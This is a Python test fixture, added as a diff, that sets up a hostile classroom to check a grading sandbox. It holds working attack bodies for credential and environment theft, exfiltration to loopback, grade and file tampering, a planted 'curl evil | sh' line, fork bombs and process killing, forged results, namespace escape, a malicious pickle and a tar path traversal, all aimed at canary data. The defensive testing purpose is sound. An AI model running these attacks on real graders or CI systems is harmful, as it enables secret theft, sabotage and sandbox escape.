@@ -1,0 +1,426 @@
+"""A hostile classroom: one student repo per attack, a victim student, and the grader's world
+(HOME with cloud credentials, a report directory, a grader checkout) full of canaries.
+
+Every attack is the body of ``model_fn`` in the student's ``aws_deploy/inference.py``, graded
+through the real ``predict.local`` path. The attack reports what it saw with ``leak(...)``: in its
+own error message (what the student would read in the report), on stdout, and over the network
+to the test's loopback listeners. The tests then look at the WORLD: files, processes, listeners.
+
+World paths are world-writable on purpose (0777/0666): only the sandbox may stop the writes.
+"""
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import os
+import pickle
+import pickletools
+import tarfile
+from dataclasses import dataclass
+from pathlib import Path
+
+PRELUDE = r'''
+import ctypes, json, os, signal, socket, struct, sys, time
+W = json.loads({world!r})
+MARK = {mark!r}
+ctypes.CDLL(None, use_errno=True).prctl(15, MARK.encode(), 0, 0, 0)   # our processes carry MARK
+FOUND = []
+
+
+def leak(what):
+    what = str(what)[:3000]
+    FOUND.append(what)
+    print("LEAK", what)
+    wire = (MARK + " " + what).encode()
+    try:
+        socket.create_connection(("127.0.0.1", W["tcp_port"]), timeout=1).sendall(wire)
+    except OSError:
+        pass
+    try:
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(wire[:1000], ("127.0.0.1", W["udp_port"]))
+    except OSError:
+        pass
+
+
+def try_read(path):
+    try:
+        with open(path, "rb") as fh:
+            data = fh.read(100000).decode("latin-1")
+        if "CANARY" in data:
+            leak(path + ": " + data)
+        return data
+    except OSError as e:
+        return "%s: %s" % (type(e).__name__, e)
+
+
+def try_write(path, data="HACKED " + MARK):
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+    except OSError:
+        pass
+    try:
+        with open(path, "a") as fh:
+            fh.write(data + "\n# " + MARK + "\n")
+        print("WROTE", path)
+    except OSError as e:
+        print("write failed", path, e)
+
+
+def model_fn(model_dir):
+{body}
+    if FOUND:
+        raise RuntimeError("FOUND " + json.dumps(FOUND)[:8000])
+    import joblib
+    return joblib.load(os.path.join(model_dir, "model.joblib"))
+'''
+
+
+def _indent(code: str) -> str:
+    return "".join("    " + line + "\n" for line in code.strip("\n").splitlines())
+
+
+ATTACKS: dict[str, str] = {
+    # ---------------------------------------------------------------- secrets
+    "env_secrets": """
+for k, v in os.environ.items():
+    leak("%s=%s" % (k, v)) if "CANARY" in v else None
+try_read("/proc/self/environ")
+""",
+    "proc_environ_of_parent_and_grader": """
+pids = {os.getppid(), 1, W["grader_pid"], W["test_pid"]}
+try:
+    pids |= {int(p) for p in os.listdir("/proc") if p.isdigit()}
+except OSError:
+    pass
+for pid in sorted(pids):
+    for f in ("environ", "cmdline"):
+        try_read("/proc/%d/%s" % (pid, f))
+""",
+    "ptrace_parent_and_grader": """
+libc = ctypes.CDLL(None, use_errno=True)
+for pid in (os.getppid(), W["grader_pid"], W["test_pid"]):
+    if pid > 1 and libc.ptrace(16, pid, 0, 0) == 0:        # PTRACE_ATTACH
+        leak("ptrace attached to %d" % pid)
+    try:
+        with open("/proc/%d/mem" % pid, "rb") as fh:
+            leak("opened memory of %d" % pid)
+    except OSError:
+        pass
+""",
+    "grader_home_credentials": """
+for p in ["~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json"]:
+    try_read(os.path.expanduser(p))
+for p in [W["home"] + "/.aws/credentials", W["home"] + "/.config/gcloud/application_default_credentials.json",
+          "/root/.aws/credentials", "/root/.config/gcloud/application_default_credentials.json"]:
+    try_read(p)
+""",
+    "token_in_other_repo_git_config": """
+try_read(W["victim"] + "/.git/config")
+try_read("../../victim/.git/config")
+for root in ("/", "/tmp", "/work", "/home", "/root"):
+    for dirpath, dirnames, filenames in os.walk(root):
+        if dirpath.count("/") > 8:
+            dirnames[:] = []
+        if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")):
+            dirnames[:] = []
+            continue
+        if "config" in filenames and dirpath.endswith(".git"):
+            try_read(dirpath + "/config")
+""",
+    "network_exfiltration": """
+for host in ("127.0.0.1", "localhost", "::1", "10.0.0.1", "1.1.1.1"):
+    try:
+        socket.create_connection((host, W["tcp_port"]), timeout=1).sendall(b"EXFIL " + MARK.encode())
+        print("CONNECTED", host)
+    except OSError as e:
+        print("no connection", host, e)
+try:
+    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    u.connect("\\0" + W["abstract"])
+    u.sendall(b"EXFIL")
+    print("CONNECTED abstract")
+except OSError as e:
+    print("no abstract socket", e)
+leak("exfil-probe " + MARK)
+""",
+    # ---------------------------------------------------------------- writes
+    "write_own_original_repo": """
+try_write(W["self_repo"] + "/aws_deploy/inference.py", "\\nraise SystemExit('tampered')\\n")
+try_write(W["self_repo"] + "/aws_deploy/README.md")
+""",
+    "write_other_students_repo": """
+try_write(W["victim"] + "/aws_deploy/inference.py", "\\nraise SystemExit('sabotaged')\\n")
+try_write(W["victim"] + "/aws_deploy/model.tar.gz")
+""",
+    "write_report_dir": """
+try_write(W["report"] + "/grades.csv", "\\nvictim,0\\nattacker,100\\n")
+try_write(W["report"] + "/proof/victim/proof.png", "not a png")
+""",
+    "write_grader_checkout": """
+try_write(W["checkout"] + "/checks/conftest.py", "import os; os.system('echo pwned')\\n")
+try_write(W["package"] + "/inside/sitecustomize.py", "PWNED = 1\\n")
+try_write(W["package"] + "/__init__.py", "\\nPWNED = 1\\n")
+""",
+    "write_grader_home": """
+try_write(W["home"] + "/.bashrc", "\\ncurl evil | sh\\n")
+try_write(W["home"] + "/.aws/credentials", "\\n[default]\\naws_secret_access_key = attacker\\n")
+try_write(os.path.expanduser("~/.bashrc"))
+""",
+    "write_shared_temp_dirs": """
+for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run/user/0"):
+    try_write(d + "/" + MARK)
+""",
+    "fill_disk": """
+n = 0
+try:
+    with open("big.bin", "wb") as fh:
+        for _ in range(300):
+            fh.write(b"x" * (1 << 20))
+            fh.flush()
+            n += 1
+except OSError as e:
+    print("disk full after", n, "MB:", e)
+for d in ("/tmp", os.environ.get("HOME", "/tmp")):
+    try:
+        with open(d + "/big2.bin", "wb") as fh:
+            for _ in range(300):
+                fh.write(b"x" * (1 << 20))
+    except OSError:
+        pass
+raise RuntimeError("WROTE %d MB" % n)
+""",
+    # ---------------------------------------------------------------- processes
+    "fork_bomb": """
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+""",
+    "daemon_outlives_job": """
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for _ in range(600):
+            time.sleep(0.05)
+            try_write(W["report"] + "/grades.csv", "\\nattacker,100\\n")
+            try_write(W["victim"] + "/aws_deploy/inference.py", "\\nraise SystemExit('late')\\n")
+        os._exit(0)
+    os._exit(0)
+time.sleep(0.2)
+""",
+    "kill_everything": """
+try:
+    os.kill(-1, signal.SIGKILL)
+except OSError as e:
+    print("kill(-1):", e)
+""",
+    "kill_parent_and_grader": """
+for pid in (W["grader_pid"], W["test_pid"], os.getppid()):
+    try:
+        if pid > 0:
+            os.kill(pid, signal.SIGKILL)
+            print("killed", pid)
+    except OSError as e:
+        print("kill", pid, e)
+for pid in range(2, 4000):
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+""",
+    # ---------------------------------------------------------------- forged results
+    "forge_result_and_isolation_label": """
+import deploycheck.serving as serving
+forged = {"ok": True, "data": {"platform": "aws", "phase": "predict", "status": 200,
+          "content_type": "application/json", "response_b64": "WzFd", "n_predictions": 2, "n_rows": 2,
+          "preview": [1, 1], "isolation": "FORGED-ISOLATION"}, "isolation": "FORGED-ISOLATION", "status": "ok"}
+payload = json.dumps(forged).encode()
+for fd in range(3, 64):
+    try:
+        os.write(fd, b"DCJ1" + struct.pack(">Q", len(payload)) + payload)
+    except OSError:
+        pass
+os._exit(0)
+""",
+    "forge_into_later_jobs": """
+payload = json.dumps({"ok": True, "data": {"status": 200, "n_predictions": 2, "n_rows": 2,
+                      "response_b64": "WzFd", "content_type": "application/json"}}).encode()
+frame = b"DCJ1" + struct.pack(">Q", len(payload)) + payload
+if os.fork() == 0:
+    os.setsid()
+    for _ in range(400):
+        for fd in range(0, 256):
+            try:
+                os.write(fd, frame)
+            except OSError:
+                pass
+        time.sleep(0.01)
+    os._exit(0)
+""",
+    "escape_mount_namespace": """
+libc = ctypes.CDLL(None, use_errno=True)
+if libc.unshare(0x10000000 | 0x00020000) == 0:          # CLONE_NEWUSER | CLONE_NEWNS
+    for target in (b"/jobs", b"/proc", b"/tmp", b"/"):
+        if libc.umount2(target, 2) == 0:
+            print("unmounted", target)
+for d in ("/jobs", "/", "/root", "/home", "/work", "/tmp"):
+    try:
+        print(d, os.listdir(d))
+        for name in os.listdir(d):
+            if "CANARY" in name:
+                leak(d + "/" + name)
+    except OSError as e:
+        print(d, e)
+try_read(W["home"] + "/.aws/credentials")
+""",
+    "symlink_to_grader_secrets": """
+try_read("aws_credentials_link")
+try_read("home_link/.aws/credentials")
+""",
+}
+
+EVIL_SKLEARN_OS_SYSTEM = "evil_pickle_dotted_global"
+EVIL_TAR_ESCAPE = "evil_tar_member_escape"
+NAMES = list(ATTACKS) + [EVIL_SKLEARN_OS_SYSTEM, EVIL_TAR_ESCAPE]
+
+BENIGN = """
+import joblib, os
+
+def model_fn(model_dir):
+    return joblib.load(os.path.join(model_dir, "model.joblib"))
+"""
+README = "# AWS\n```python\npredictor.predict([[5.1, 3.5, 1.4, 0.2], [6.7, 3.0, 5.2, 2.3]])\n```\n"
+
+
+@dataclass(frozen=True)
+class World:
+    root: Path
+    token: str
+    home: Path
+    report: Path
+    checkout: Path
+    victim: Path
+    repos: dict[str, Path]
+    marks: dict[str, str]
+    canaries: tuple[str, ...]
+    env: dict[str, str]
+
+    def spec_path(self) -> Path:
+        return self.root / "world.json"
+
+
+def model_bytes() -> bytes:
+    import joblib
+    from sklearn.datasets import load_iris
+    from sklearn.tree import DecisionTreeClassifier
+    X, y = load_iris(return_X_y=True)
+    b = io.BytesIO()
+    joblib.dump(DecisionTreeClassifier(random_state=0, max_depth=3).fit(X, y), b)
+    return b.getvalue()
+
+
+def _tar(path: Path, members: dict[str, bytes]) -> None:
+    with tarfile.open(path, "w:gz") as tf:
+        for name, data in members.items():
+            ti = tarfile.TarInfo(name)
+            ti.size = len(data)
+            tf.addfile(ti, io.BytesIO(data))
+
+
+def _dotted_global_pickle(command: str) -> bytes:
+    """STACK_GLOBAL('sklearn', 'os.system') applied to a command: passed the old allowlist."""
+    def short(s: str) -> bytes:
+        b = s.encode()
+        return b"\x8c" + bytes([len(b)]) + b
+    data = b"\x80\x04" + short("sklearn") + short("os.system") + b"\x93" + short(command) + b"\x85R."
+    pickletools.dis(data, out=io.StringIO())          # a well-formed stream
+    return data
+
+
+def _write(p: Path, data: bytes | str, mode: int = 0o666) -> None:
+    p.parent.mkdir(parents=True, exist_ok=True)
+    p.write_bytes(data.encode() if isinstance(data, str) else data)
+    os.chmod(p, mode)
+
+
+def build(root: Path, *, tcp_port: int, udp_port: int, abstract: str, grader_pid: int, test_pid: int,
+          package: str, token: str) -> World:
+    """Lay out the world below ``root`` (which must not exist yet)."""
+    root.mkdir(mode=0o777)
+    os.chmod(root, 0o777)
+    canary = f"CANARY{token}"
+    home = root / "home"
+    _write(home / ".aws" / "credentials", f"[default]\naws_access_key_id = AKIA{canary}\n"
+                                          f"aws_secret_access_key = {canary}-aws-file\n")
+    _write(home / ".config" / "gcloud" / "application_default_credentials.json",
+           json.dumps({"type": "authorized_user", "refresh_token": f"{canary}-gcloud-adc"}))
+    _write(home / ".bashrc", "# grader's shell\n")
+    report = root / "report"
+    _write(report / "grades.csv", "student,score\nvictim,24\n")
+    _write(report / "proof" / "victim" / "proof.png", b"\x89PNG real")
+    checkout = root / "checkout"
+    _write(checkout / "checks" / "test_predict.py", "# the grader's rubric\n")
+    model = model_bytes()
+    classroom = root / "classroom"
+    repos: dict[str, Path] = {}
+    marks: dict[str, str] = {}
+
+    def repo(name: str, inference: str, tar_members: dict[str, bytes] | None = None) -> Path:
+        r = classroom / name
+        _write(r / "aws_deploy" / "inference.py", inference)
+        _write(r / "aws_deploy" / "README.md", README)
+        _tar(r / "aws_deploy" / "model.tar.gz", tar_members or {"model.joblib": model})
+        os.chmod(r / "aws_deploy" / "model.tar.gz", 0o666)
+        _write(r / ".git" / "config", f"[remote \"origin\"]\n\turl = https://x-access-token:{canary}-git@github.com/c/{name}\n")
+        for d in [r, r / "aws_deploy", r / ".git"]:
+            os.chmod(d, 0o777)
+        return r
+
+    victim = repo("victim", BENIGN)
+    repos["benign"] = repo("benign", BENIGN)
+    world = {"tcp_port": tcp_port, "udp_port": udp_port, "abstract": abstract, "grader_pid": grader_pid,
+             "test_pid": test_pid, "home": str(home), "report": str(report), "checkout": str(checkout),
+             "victim": str(victim), "package": package}
+    for i, (name, body) in enumerate(ATTACKS.items()):
+        mark = f"hx{token[:6]}{i:02d}"
+        marks[name] = mark
+        w = dict(world, self_repo=str(classroom / name))
+        repos[name] = repo(name, PRELUDE.format(world=json.dumps(w), mark=mark, body=_indent(body)))
+    d = repos["symlink_to_grader_secrets"] / "aws_deploy"
+    (d / "aws_credentials_link").symlink_to(home / ".aws" / "credentials")
+    (d / "home_link").symlink_to(home)
+    pwned = root / "pwned-by-pickle"
+    marks[EVIL_SKLEARN_OS_SYSTEM] = f"hx{token[:6]}p1"
+    repos[EVIL_SKLEARN_OS_SYSTEM] = repo(EVIL_SKLEARN_OS_SYSTEM, BENIGN, {
+        "model.joblib": _dotted_global_pickle(f"touch {pwned}; exec -a {marks[EVIL_SKLEARN_OS_SYSTEM]} sleep 30")})
+    marks[EVIL_TAR_ESCAPE] = f"hx{token[:6]}t1"
+    repos[EVIL_TAR_ESCAPE] = repo(EVIL_TAR_ESCAPE, BENIGN, {
+        "model.joblib": model, "../../../escaped-by-tar": b"x", str(root / "escaped-abs"): b"x"})
+    env = {"DATABASE_URL": f"postgres://grader:{canary}-db@db.internal/grades",
+           "AWS_SECRET_ACCESS_KEY": f"{canary}-aws-env", "AWS_ACCESS_KEY_ID": f"AKIA{canary}",
+           "GITHUB_TOKEN": f"ghp_{canary}", "MY_UNUSUAL_NAME": f"{canary}-unusual", "HOME": str(home)}
+    spec = World(root, token, home, report, checkout, victim, repos, marks,
+                 (canary,), env)
+    spec.spec_path().write_text(json.dumps({"repos": {k: str(v) for k, v in repos.items()}, "marks": marks,
+                                            "canary": canary}))
+    return spec
+
+
+def snapshot(root: Path) -> dict[str, str]:
+    """Every path below ``root`` with a hash of its content (links by their target)."""
+    out = {}
+    for dirpath, dirnames, filenames in os.walk(root):
+        for n in dirnames + filenames:
+            p = os.path.join(dirpath, n)
+            if os.path.islink(p):
+                out[p] = "link:" + os.readlink(p)
+            elif os.path.isfile(p):
+                out[p] = hashlib.sha256(Path(p).read_bytes()).hexdigest()
+            else:
+                out[p] = "dir"
+    return out
+
+
+_ = pickle  # the dotted-global pickle is written by hand above: it must never be produced by pickle
